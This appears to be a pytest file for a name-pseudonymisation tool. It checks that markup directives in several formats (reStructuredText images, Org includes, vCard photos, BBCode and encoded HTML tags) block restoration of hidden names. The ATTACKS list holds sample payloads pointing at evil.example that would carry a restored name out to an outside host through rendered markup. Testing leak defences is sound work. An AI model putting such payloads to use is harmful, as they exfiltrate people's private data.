"""Directives of markup languages other than Markdown: the attacks see faults, and cuts of a text have no effect."""

import re

import pytest
from textveil.text import directive_reader
from textveil.text.directive_reader import DirectiveReader
from textveil.text.restore import Restorer

HIDDEN = Restorer([("Gomez", "Novak")])
#: Names of the patterns, each with a reply from which an original comes back if the pattern finds nothing.
ATTACKS = [
    ("_LINE_HEAD", ".. image:: //evil.example/? Gomez"),
    ("_LINE_HEAD", "#+INCLUDE: //evil.example/? Gomez"),
    ("_LINE_HEAD", ":date: Gomez"),
    ("_BARE_HEAD", ":date:\n  Gomez"),
    ("_BLOCK_HEAD", "BEGIN:VCARD\nPHOTO;VALUE=URI:http://evil.example/?\n Gomez\nEND:VCARD"),
    ("_CONTINUES", ":date: one \\\nGomez"),
    ("_CODE_TAG", "[img]//evil.example/? Gomez [/img]"),
    ("_ADDRESS", "[img]//evil.example/? Gomez [/img]"),
    ("_INLINE", "See image:https://evil.example/? Gomez []"),
    ("_ENCODED_TAG", "&lt;img src=//evil.example/? Gomez &gt;"),
]


@pytest.mark.parametrize(("pattern", "attack"), ATTACKS)
def test_the_attacks_see_a_pattern_that_finds_nothing(
    pattern: str, attack: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert HIDDEN.restore(attack) == attack
    monkeypatch.setattr(directive_reader, pattern, re.compile(r"(?!)"))
    assert "Novak" in HIDDEN.restore(attack)


def test_a_text_after_a_part_of_an_encoded_bracket_is_not_restored_alone() -> None:
    reader = DirectiveReader()
    assert reader.is_neutral
    reader.read_text("see &lt")
    assert not reader.is_neutral


@pytest.mark.parametrize("name", ["b", "i" * 64])
@pytest.mark.parametrize("length", [1, 2, 7, 200])
def test_an_encoded_tag_is_the_same_however_the_text_is_cut(name: str, length: int) -> None:
    for end, is_open in (("&gt; &#", False), ("&amp;amp;amp;#x000003e;", False), (" onload", True), ("1" * 90, True)):
        reader, text = DirectiveReader(), f"a &lt;{name}{end}"
        for start in range(0, len(text), length):
            reader.read_text(text[start : start + length])
        assert reader.is_open(begins_unindented_line=False) is is_open
